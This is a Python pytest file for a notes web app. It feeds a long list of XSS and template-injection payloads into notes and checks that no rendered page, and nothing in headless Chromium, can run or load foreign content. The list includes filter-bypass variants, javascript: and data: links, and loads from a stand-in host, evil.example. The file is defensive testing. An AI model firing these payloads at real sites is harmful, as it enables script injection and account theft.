"""Notes that try to run something in the pages: none of them becomes an element or an attribute that does."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from html.parser import HTMLParser
from shutil import which
from urllib.parse import quote

import pytest
from command_line import write_notes
from command_process import run_process
from page_world import Browser
from process_environ import process_environ
from server_process import serving

PAYLOADS = r"""
<script>alert(1)</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<script >alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
" autofocus onfocus=alert(1) x="
` onmouseover=`alert(1)
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<IMG SRC="javascript:alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=0>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<base href=http://evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=http://evil.example/x.css>
<style>@import "http://evil.example/x.css";</style>
<div style="background:url(javascript:alert(1))">x</div>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#x09;script:alert(1))
[x](javascript&colon;alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
![x](javascript:alert(1))
![x" onerror="alert(1)](x)
[x](http://a.example "t\" onmouseover=\"alert(1)")
[[javascript:alert(1)]]
[[x" onmouseover="alert(1)|<script>alert(1)</script>]]
<javascript:alert(1)>
{{ 731*17 }}{% print(1) %}{{ config }}
[x]: javascript:alert(1)
""".strip().split("\n")

ALLOWED = frozenset(
    """
    html head meta title link script body a article header nav form input main section h1 h2 h3 h4 h5 h6 p div span ul ol li
    small time table tbody thead tr th td button select option label datalist details summary svg g rect path line circle
    text code pre kbd blockquote em strong s del br hr img footer
    """.split()
)
OWN_SCRIPT = {"type": "module", "src": "/ui/static/page.js"}


class Elements(HTMLParser):
    """The elements of a page that a browser would make."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def faults(self) -> Iterator[str]:
        """Yield what could run, or load something from elsewhere."""
        for tag, attributes in self.found:
            source = attributes.get("src", "").partition("?")[0]
            if tag not in ALLOWED or (tag == "script" and {**attributes, "src": source} != OWN_SCRIPT):
                yield f"element {tag} {attributes}"
            for name, value in attributes.items():
                url = "".join(value.split()).casefold()
                is_url = name in ("href", "src", "action", "formaction", "data", "xlink:href")
                if name.startswith("on") or name in ("style", "srcdoc", "formaction", "ping"):
                    yield f"attribute {name} of {tag}: {value}"
                if is_url and not url.startswith(("/ui/", "http://a.example", "#")):
                    yield f"address of {tag}: {value}"


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    home = tmp_path_factory.mktemp("home")
    notes = {}
    for number, payload in enumerate(PAYLOADS):
        quoted = payload.replace("'", "''")
        head = f"---\ntitle: '{quoted}'\ntags: ['{quoted}']\nowner: '{quoted}'\nsource: '{quoted}'\n---\n"
        name = payload.replace("/", "_")[:90]
        body = f"# {payload}\n\nhazard {payload}\n\n- [ ] {payload} due: 2026-01-01\n\n| {payload} | b |\n|---|---|\n| {payload} | {payload} |\n"
        notes[f"decisions/{number} {name}.md"] = (
            f"{head}{body}\n    {payload}\n\n`{payload}`\n\n[[{number}]]\n{payload}\n"
        )
    write_notes(home / "notes", notes)
    environ = process_environ(home)
    run_process("bootstrap", home / "notes", environ=environ, cwd=home, check=True)
    with serving(environ, home, "--port", "0", "--no-watch") as server:
        yield Browser(server)


def test_no_note_runs_anything(browser: Browser) -> None:
    """In its own page, in lists, in results, and in what the query string says."""
    names = {file["file"] for file in listed(browser)}
    assert len(names) == len(PAYLOADS)
    pages = [("/", {}), ("/search", {}), ("/search", {"q": "hazard", "mode": "words"})]
    pages += [("/note", {"file": name}) for name in sorted(names)]
    pages += [
        ("/inbox", {}),
        ("/inbox/corrections", {}),
        ("/timeline", {}),
        ("/timeline", {"at": "2026"}),
        ("/graph", {}),
        ("/prompts", {}),
    ]
    pages += [("/graph", {"file": name}) for name in sorted(names)[::6]]
    pages += [("/supersede", {"file": name, "q": "hazard"}) for name in sorted(names)[::6]]
    pages += [("/note", {"file": payload}) for payload in PAYLOADS[2::4]]
    pages += [("/search", {"q": payload, "mode": "words", "tag": payload[:9]}) for payload in PAYLOADS[::4]]
    pages += [("/prompt", {"id": number}) for number in range(1, 12)]  # receipts of these very questions
    for path, query in pages:
        page = browser.get(path, **query)
        faults = [*Elements(page.text).faults()]
        assert not faults, (path, query, faults)
        assert "12427" not in page.text, (path, query)


@pytest.mark.skipif("UI_ALL" not in os.environ, reason="make ui-test runs it")
def test_chromium_runs_nothing_and_reports_nothing(browser: Browser) -> None:
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as started:
        chromium = started.chromium.launch(executable_path=which("chromium"), args=["--no-sandbox"])
        page, reports = chromium.new_page(), list[str]()
        page.on("dialog", lambda dialog: (reports.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: reports.append(message.text))
        page.on("pageerror", lambda error: reports.append(str(error)))
        entrance = json.loads(browser.server.ask("POST", "/ui-address", {}).body)["path"]
        for path in (
            entrance,
            *("/ui/search?q=hazard", "/ui/inbox", "/ui/timeline?at=2026", "/ui/graph", "/ui/health"),
            *(f"/ui/note?file={quote(file['file'])}" for file in listed(browser)),
            *(f"/ui/search?mode=words&q={quote(payload)}" for payload in PAYLOADS[::6]),
        ):
            page.goto(f"http://127.0.0.1:{browser.server.port}{path}")
            assert page.get_by_role("main").is_visible()
            assert not reports, (path, reports)
        chromium.close()


def listed(browser: Browser) -> list[dict[str, str]]:
    return list(json.loads(browser.server.ask("GET", "/list?limit=1000").body)["documents"])
